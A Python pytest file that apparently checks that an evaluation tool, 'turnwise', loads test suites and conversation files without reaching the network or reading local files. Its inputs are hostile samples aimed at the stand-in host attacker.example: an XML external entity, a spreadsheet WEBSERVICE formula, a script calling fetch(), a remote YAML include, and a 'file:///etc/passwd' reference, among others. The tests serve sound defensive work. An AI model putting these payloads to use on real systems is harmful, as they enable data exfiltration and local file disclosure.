"""Nothing in a loaded file reaches the network without the user's word: no address is even looked up."""

from __future__ import annotations

import json
from typing import Any

import pytest
from attacks import Attack

URL = "http://attacker.example/x"


def asserts(*checks: dict[str, Any], **test: Any) -> dict[str, Any]:
    return {"tests": [{"vars": {"q": "x"}, "assert": list(checks), **test}]}


WAYS: dict[str, dict[str, Any]] = {
    "tests on the web": {"tests": f"{URL}.csv"},
    "tests on the web in a list": {"tests": [f"{URL}.yaml"]},
    "tests by a path on the web": {"tests": {"path": f"{URL}.csv"}},
    "a Google sheet": {"tests": "https://docs.google.com/spreadsheets/d/abc/edit#gid=0"},
    "a data set": {"tests": "huggingface://datasets/a/b"},
    "a data set in a list": {"tests": ["huggingface://datasets/a/b?split=test"]},
    "a cloud's storage": {"tests": "az://account/container/x.csv"},
    "langfuse": {"tests": "langfuse://x", "prompts": ["langfuse://p:1"]},
    "a prompt on the web": {"prompts": [URL]},
    "a variable on the web": {"tests": [{"vars": {"q": URL}}]},
    "a variable in a file on the web": {"tests": [{"vars": {"q": f"file://{URL}"}}]},
    "a share": {"tests": [{"vars": {"q": "file:////attacker.example/share/x.txt"}}]},
    "variables on the web": {"tests": [{"vars": URL}]},
    "the default test on the web": {"defaultTest": URL},
    "a check's value on the web": asserts({"type": "contains", "value": f"file://{URL}"}),
    "a schema on the web": asserts({"type": "is-json", "value": {"$ref": URL}}, providerOutput="{}"),
    "a schema whose id is on the web": asserts(
        {"type": "is-json", "value": {"$id": URL, "properties": {"a": {"$ref": "b.json"}}}},
        providerOutput='{"a": 1}',
    ),
    "a schema of a schema": asserts({"type": "is-json", "value": {"$schema": URL}}, providerOutput="{}"),
    "an entity": asserts({"type": "is-xml"}, providerOutput=f'<!DOCTYPE a SYSTEM "{URL}"><a/>'),
    "a webhook": asserts({"type": "webhook", "value": URL}),
    "a moderation service": asserts({"type": "moderation"}),
    "a classifier": asserts({"type": "classifier", "provider": "huggingface:text-classification:x"}),
    "a remote judge": asserts({"type": "llm-rubric", "value": "x", "provider": {"id": URL}}),
    "a judge at an address": asserts(
        {"type": "llm-rubric", "value": "x", "provider": {"id": "openai:x", "config": {"apiBaseUrl": URL}}}
    ),
    "an embedding at an address": asserts(
        {
            "type": "similar",
            "value": "x",
            "provider": {"id": "openai:embedding:x", "config": {"apiHost": "a.b"}},
        }
    ),
    "a guardrail": asserts({"type": "guardrails"}),
    "a target on the web": {"providers": [URL]},
    "a target with a template": {
        "providers": [{"id": "http", "config": {"url": URL, "body": {"p": "{{q}}"}}}]
    },
    "a web socket": {"providers": ["ws://attacker.example"]},
    "a target at an address": {
        "providers": [{"id": "openai:x", "config": {"apiBaseUrl": URL, "apiKey": "k"}}]
    },
    "a target at a host": {"providers": [{"id": "openai:chat:x", "config": {"apiHost": "attacker.example"}}]},
    "a local target": {"providers": [{"id": "ollama:x"}]},
    "a simulated user": {"providers": ["promptfoo:simulated-user"]},
    "a target of the environment": {
        "env": {"OPENAI_API_KEY": "k", "OPENAI_BASE_URL": URL},
        "providers": ["openai:x"],
    },
    "an inline script": asserts({"type": "javascript", "value": f"fetch('{URL}')\nreturn true"}),
    "a request of a script": asserts({"type": "javascript", "value": "new XMLHttpRequest()"}),
    "a picture in a prompt": {
        "prompts": [
            json.dumps([{"role": "user", "content": [{"type": "image_url", "image_url": {"url": URL}}]}])
        ]
    },
    "sharing": {"sharing": True, "commandLineOptions": {"share": True}},
    "a remote trace": {"tracing": {"enabled": True, "otlp": {"http": {"enabled": True}}}},
    "an extension": {"extensions": ["file://hook.js:beforeAll"]},
}


@pytest.mark.parametrize("way", WAYS)
def test_a_suite_reaches_nothing(attack: Attack, reached: list[Any], way: str) -> None:
    ran = attack.run("run", attack.suite(WAYS[way]), "--json", "--judge", "none")
    assert reached == []
    assert ran.code in (0, 1, 2, 3)
    assert "Traceback" not in ran.told


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (
            "chat.json",
            json.dumps(
                [
                    {"role": "user", "content": [{"type": "image_url", "image_url": {"url": URL}}]},
                    {"role": "assistant", "content": f"![x]({URL})"},
                ]
            ),
        ),
        ("chat.md", f"**User:** <img src='{URL}'>\n\n**Assistant:** [x]({URL})\n"),
        ("own.jsonl", json.dumps({"turns": [{"role": "user", "content": f"[MLLMImage:{URL}]"}]})),
        ("chat.csv", f'id,role,content\n1,user,"=WEBSERVICE(""{URL}"")"\n1,assistant,ok\n'),
        ("cases.yaml", f"turns: !include {URL}\n"),
    ],
)
def test_a_conversation_reaches_nothing(attack: Attack, reached: list[Any], name: str, text: str) -> None:
    path = attack.write(name, text)
    for command in (["import", path], ["show", "1"], ["sessions"], ["export", "1", "--to", "html"]):
        assert "Traceback" not in attack.run(*command).told
    assert reached == []


@pytest.mark.parametrize(
    "address",
    ["https://github.com/a/b/blob/main/x.md", "git@github.com:a/b.git", "file:///etc/passwd", f"{URL}.md"],
)
def test_a_case_of_agentv_reaches_nothing(attack: Attack, reached: list[Any], address: str) -> None:
    from turnwise.conversations.errors import TurnwiseError
    from turnwise.conversations.formats.agentv import load_agentv

    content = [{"type": "file", "value": address}, {"type": "text", "value": "x"}]
    case = {"id": "a", "outcome": "x", "input_messages": [{"role": "user", "content": content}]}
    path = attack.write("dataset.json", json.dumps({"evalcases": [case], "execution": {"target": URL}}))
    try:
        found = repr(load_agentv(path))
    except TurnwiseError as error:
        found = str(error)
    assert "root:" not in found
    assert reached == []
